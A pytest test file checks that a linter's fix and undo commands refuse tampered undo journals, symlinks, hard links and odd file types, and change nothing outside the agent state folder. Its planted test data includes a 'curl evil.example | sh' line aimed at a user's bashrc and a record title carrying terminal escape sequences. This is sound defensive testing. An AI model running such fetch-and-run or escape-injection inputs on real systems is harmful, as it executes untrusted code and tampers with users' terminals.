"""States that somebody else wrote: nothing in them decides where something is written."""

import json
import os
import shutil
import sqlite3
import stat
from contextlib import closing
from hashlib import sha256

import pytest

from fixtures import load
from linter.fixes.disk import make_folder, names_in, read, remove, write_new
from linter.fixes.place import Place, RefusedError

NOW = "2026-11-22T00:00:00Z"
SESSIONS = "agents/main/sessions/sessions.json"
DATABASE = "agents/main/agent/openclaw-agent.sqlite"


@pytest.fixture
def state(tmp_path):
    return load.materialise("2026.3.24-pin-missing", tmp_path / "home")


@pytest.fixture
def outside(tmp_path):
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "bashrc").write_text("# a file of the user's\n")
    (folder / "bashrc").chmod(0o644)
    return folder


@pytest.fixture
def fix(authlint):
    return lambda state, *arguments: authlint(
        "fix", state, "--now", NOW, "--apply", "--unsafe", "--sqlite", *arguments
    )


def everything(folder):
    return {
        path.relative_to(folder).as_posix(): (
            path.readlink() if path.is_symlink() else path.is_file() and path.read_bytes(),
            stat.S_IMODE(path.lstat().st_mode),
        )
        for path in folder.rglob("*")
    }


def digest(data):
    return sha256(data).hexdigest()


def plant(state, files=(), backups=(), **record):
    folder = state / ".authlint/undo/0001"
    folder.mkdir(parents=True)
    for index, data in enumerate(backups):
        (folder / str(index)).write_bytes(data)
    value = {"titles": ["A fix"], "at": 5, "stage": "changing", "files": files, "database": None}
    (folder / "run.json").write_text(json.dumps({"folder": str(folder), "entries": [], **value, **record}))
    return folder


def names_of(file, state):
    return (
        str(file),
        os.path.relpath(file, state),
        f"agents/../{os.path.relpath(file, state)}",
        f"~/{os.path.relpath(file, state.parent)}",
    )


@pytest.mark.parametrize(
    ("stage", "key"),
    [("changing", "path"), ("preparing", "source"), ("changing", "source"), ("done", "source")],
)
def test_a_planted_record_changes_no_file_of_the_user(state, outside, authlint, fix, stage, key):
    known, planted = (outside / "bashrc").read_bytes(), b"curl evil.example | sh\n"
    before = everything(outside)
    for name in names_of(outside / "bashrc", state):
        file = {key: name, "before": digest(planted), "after": digest(known)}
        if key == "path":  # as records were before
            file |= {"mode": 0o777, "uid": os.getuid(), "gid": os.getgid()}
        plant(state, [file], [planted], stage=stage)
        assert authlint("undo", state).exit_code == 1
        assert fix(state).exit_code == (0 if stage == "done" and key == "source" else 1)
        assert everything(outside) == before
        shutil.rmtree(state / ".authlint")


def test_a_planted_record_restores_nothing_that_fixes_would_not_change(state, authlint):
    (state / "workspace").mkdir(exist_ok=True)
    script = state / "workspace/run.sh"
    script.write_text("echo harmless\n")
    plant(
        state,
        [{"source": "workspace/run.sh", "before": digest(b"evil"), "after": digest(script.read_bytes())}],
        [b"evil"],
    )
    result = authlint("undo", state)
    assert (result.exit_code, "workspace/run.sh was not read" in result.stderr) == (1, True)
    assert script.read_text() == "echo harmless\n"


def test_what_is_restored_is_what_the_record_says_it_was(state, authlint, fix):
    fix(state)
    fixed = (state / SESSIONS).read_bytes()
    (state / ".authlint/undo/0001/0").write_bytes(b"{}")
    result = authlint("undo", state)
    assert (result.exit_code, "is not what" in result.stderr) == (1, True)
    assert (state / SESSIONS).read_bytes() == fixed


def test_modes_come_from_the_file_and_not_from_a_record(state, authlint, fix):
    fix(state)
    record = state / ".authlint/undo/0001/run.json"
    value = json.loads(record.read_text())
    assert not {"mode", "uid", "gid", "path"} & value["files"][0].keys()
    (state / SESSIONS).chmod(0o640)
    assert authlint("undo", state).exit_code == 0
    assert stat.S_IMODE((state / SESSIONS).stat().st_mode) == 0o640


def link_the_file(state, outside):
    (state / SESSIONS).rename(outside / "sessions.json")
    (state / SESSIONS).symlink_to(outside / "sessions.json")


def link_the_folder(state, outside):
    (state / SESSIONS).parent.rename(outside / "sessions")
    (state / SESSIONS).parent.symlink_to(outside / "sessions")


def name_another_store(state, outside):
    shutil.move(state / SESSIONS, outside / "sessions.json")
    config = state / "openclaw.json"
    value = json.loads(config.read_text()) | {"session": {"store": str(outside / "sessions.json")}}
    config.write_text(json.dumps(value))


@pytest.mark.parametrize("lead_out", [link_the_file, link_the_folder, name_another_store])
def test_a_file_that_really_lies_outside_is_changed_only_when_its_folder_is_named(
    state, outside, authlint, fix, lead_out
):
    lead_out(state, outside)
    before = everything(outside)
    shown = authlint("fix", state, "--now", NOW)
    result = fix(state)
    for text in (" ".join(one.stdout.split()) for one in (shown, result)):
        assert f"lies outside of the state, so only with --outside {outside}" in text
    assert "0 fixes made." in result.stdout
    assert everything(outside) == before
    assert "2 fixes made." in fix(state, "--outside", outside).stdout
    assert everything(outside) != before
    undone = authlint("undo", state)
    assert (undone.exit_code, f"only with --outside {outside}" in undone.stderr) == (1, True)
    assert authlint("undo", state, "--outside", outside).exit_code == 0
    assert everything(outside) == before


def test_a_link_back_into_the_state_has_no_lock_made_outside(state, outside, fix):
    inside = state / "sessions.json"
    (state / SESSIONS).rename(inside)
    (outside / "sessions").mkdir()
    (outside / "sessions/sessions.json").symlink_to(inside)
    shutil.rmtree(state / "agents/main/sessions")
    (state / "agents/main/sessions").symlink_to(outside / "sessions")
    (outside / "sessions/sessions.json.lock").write_text("")
    before = everything(outside)
    assert "0 fixes made." in fix(state).stdout
    assert everything(outside) == before


def test_a_place_is_reached_through_no_link(tmp_path, outside):
    (tmp_path / "agents").symlink_to(outside)
    for change in (remove, read, names_in, make_folder, lambda place: write_new(place, b"")):
        with pytest.raises(RefusedError, match="is a link or no folder"):
            change(Place(tmp_path, ("agents", "bashrc", "x")))
        with pytest.raises(RefusedError, match="is a link or no folder"):
            change(Place(tmp_path, ("agents", "bashrc")))
    assert [path.name for path in outside.iterdir()] == ["bashrc"]


@pytest.mark.parametrize("path", [".authlint", ".authlint/undo", ".authlint/undo/0001"])
@pytest.mark.parametrize("recorded", [True, False])
def test_a_journal_that_is_a_link_is_not_followed(state, outside, authlint, fix, path, recorded):
    data = (state / SESSIONS).read_bytes()
    if recorded:
        plant(state, [{"source": SESSIONS, "before": digest(b"{}"), "after": digest(data)}], [b"{}"])
        shutil.move(state / path, outside / "journal")
    else:
        (state / path).parent.mkdir(parents=True, exist_ok=True)
        (outside / "journal").mkdir()
        (outside / "journal/thesis.txt").write_text("mine")
    (state / path).symlink_to(outside / "journal")
    before = everything(outside)
    for arguments in (["undo", state], ["undo", state, "--forget"], ["undo", state, "--list"]):
        assert authlint(*arguments).exit_code in (1, 3)
    assert "is a link or no folder, and is not followed" in fix(state).stderr
    assert everything(outside) == before
    assert (state / SESSIONS).read_bytes() == data


def a_pipe(path):
    os.mkfifo(path)


def a_device(path):
    path.symlink_to("/dev/zero")


def a_link(path):
    path.symlink_to("/etc/hostname")


def a_folder(path):
    path.mkdir()


def a_huge_file(path):
    with path.open("wb") as stream:
        stream.truncate(1 << 40)


@pytest.mark.parametrize("kind", [a_pipe, a_device, a_link, a_folder, a_huge_file])
@pytest.mark.parametrize("name", ["run.json", "0"])
def test_a_journal_holds_files_or_is_refused(state, authlint, fix, kind, name):
    fix(state)
    fixed = (state / SESSIONS).read_bytes()
    path = state / ".authlint/undo/0001" / name
    path.unlink()
    kind(path)
    result = authlint("undo", state)
    assert result.exit_code == 1
    assert f".authlint/undo/0001/{name}" in result.stderr
    assert (state / SESSIONS).read_bytes() == fixed


@pytest.mark.parametrize(
    "record",
    [
        {"at": 10**400},
        {"at": "5"},
        {"stage": "finished"},
        {"titles": [5]},
        {"titles": "x"},
        {"files": [{"source": 5, "before": "", "after": ""}]},
        {"files": [{"source": "x"}]},
        {"files": 5},
        {"entries": [{"key": "x", "before": [], "after": ""}]},
        {"database": ["x"]},
    ],
)
def test_a_record_of_another_shape_is_damaged(state, authlint, record):
    plant(state, **record)
    for arguments in (["undo", state], ["undo", state, "--list"]):
        result = authlint(*arguments)
        expected = (0, False) if record == {"titles": "x"} and "--list" in arguments else (1, True)
        assert (result.exit_code, "run.json is damaged" in result.stderr) == expected or "titles" in record


def test_titles_of_a_record_steer_no_terminal(state, authlint):
    plant(state, titles=["\x1b]0;owned\x07\n::error::x"], stage="done")
    listed = authlint("undo", state, "--list").stdout
    assert "\x1b" not in listed
    assert "\n::error" not in listed


@pytest.fixture
def database_state(tmp_path):
    return load.materialise("2026.9.6-pin-missing", tmp_path / "home")


def pins(database):
    with closing(sqlite3.connect(database)) as connection:
        return connection.execute("SELECT session_key, entry_json FROM session_nodes").fetchall()


def link_the_database(state, outside):
    (state / DATABASE).rename(outside / "agent.sqlite")
    (state / DATABASE).symlink_to(outside / "agent.sqlite")


def give_the_database_a_second_name(state, outside):
    os.link(state / DATABASE, outside / "agent.sqlite")


def link_the_wal(state, outside):
    (outside / "wal").write_bytes(b"")
    (state / f"{DATABASE}-wal").unlink(missing_ok=True)
    (state / f"{DATABASE}-wal").symlink_to(outside / "wal")


@pytest.mark.parametrize("kind", [link_the_database, give_the_database_a_second_name, link_the_wal])
def test_a_database_is_changed_only_where_it_is(database_state, outside, fix, kind):
    kind(database_state, outside)
    before = everything(outside)
    result = fix(database_state)
    assert "0 fixes made." in result.stdout or result.exit_code == 1
    assert everything(outside) == before


def test_a_planted_record_names_no_database_and_changes_nothing_but_pins(database_state, authlint, tmp_path):
    other = load.materialise("2026.9.6-pin-missing", tmp_path / "other")
    (key, entry), *_ = pins(other / DATABASE)
    planted = json.dumps({**json.loads(entry), "workspaceDir": "/evil"}, separators=(",", ":"))
    for name in (*names_of(other / DATABASE, database_state), DATABASE):
        plant(
            database_state,
            stage="done",
            database=name,
            entries=[{"key": key, "before": planted, "after": entry}],
        )
        before = pins(database_state / DATABASE), pins(other / DATABASE)
        assert authlint("undo", database_state).exit_code == 1
        assert (pins(database_state / DATABASE), pins(other / DATABASE)) == before
        shutil.rmtree(database_state / ".authlint")


def test_a_folder_that_becomes_a_link_meanwhile_is_not_followed(state, outside, fix, monkeypatch):
    """The check comes before the change: here the folder is swapped in between."""
    from linter.fixes import transaction  # noqa: PLC0415 - only this test reaches into it

    original = transaction.new_folder

    def swapped(journal):
        made = original(journal)
        shutil.copytree((state / SESSIONS).parent, outside / "sessions")
        (state / SESSIONS).parent.rename(state / "gone")
        (state / SESSIONS).parent.symlink_to(outside / "sessions")
        return made

    monkeypatch.setattr(transaction, "new_folder", swapped)
    assert fix(state).exit_code == 1
    assert [path.name for path in (outside / "sessions").iterdir()] == ["sessions.json"]
    assert (outside / "sessions/sessions.json").read_bytes() == (state / "gone/sessions.json").read_bytes()
